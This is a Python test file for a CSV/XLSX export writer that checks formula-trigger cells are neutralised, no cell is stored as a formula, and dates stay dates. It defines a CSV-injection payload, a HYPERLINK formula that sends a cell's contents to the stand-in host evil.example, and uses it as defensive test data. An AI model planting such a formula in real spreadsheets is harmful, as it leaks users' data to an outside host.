"""The shared CSV/XLSX writer: no cell ever becomes a formula, dates stay dates."""

from __future__ import annotations

import datetime
import io
import zipfile

from openpyxl import load_workbook

from core.exports import csv_text, neutralise, write_xlsx

ATTACK = '=HYPERLINK("https://evil.example/?x="&A2,"Details")'


def test_every_formula_trigger_is_neutralised_in_csv():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", ATTACK):
        assert neutralise(text) == "'" + text
    for text in ("Anna", "", "1-2", "a=b"):
        assert neutralise(text) == text
    lines = csv_text(["Name", "Zahl", "Datum"], [[ATTACK, -5, datetime.date(2026, 3, 1)]])
    assert lines.startswith("\ufeff")
    assert lines.splitlines()[1] == (
        '"\'=HYPERLINK(""https://evil.example/?x=""&A2,""Details"")";-5;2026-03-01'
    )


def test_xlsx_writes_text_as_strings_and_dates_as_dates():
    handle = io.BytesIO()
    rows = [
        [ATTACK, "+49 40 123", datetime.date(2026, 3, 1), 7, None],
        ["Anna", "@team", datetime.datetime(2026, 3, 1, 9, 30, tzinfo=datetime.UTC), 1.5, ""],
    ]
    assert write_xlsx(handle, ["Name", "Telefon", "Datum", "Zahl", "Leer"], rows) == 2
    raw = zipfile.ZipFile(io.BytesIO(handle.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw and b"<f " not in raw  # no formula anywhere in the sheet
    sheet = load_workbook(io.BytesIO(handle.getvalue())).active
    assert sheet["A2"].value == ATTACK and sheet["A2"].data_type == "s"
    assert sheet["A2"].quotePrefix is True
    assert sheet["B3"].value == "@team" and sheet["B3"].data_type == "s"
    assert sheet["C2"].value == datetime.datetime(2026, 3, 1) and sheet["C2"].is_date
    assert sheet["C3"].is_date  # aware datetimes become local wall-clock time
    assert sheet["D2"].value == 7 and sheet["D3"].value == 1.5
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E3"
    assert sheet["A1"].font.bold
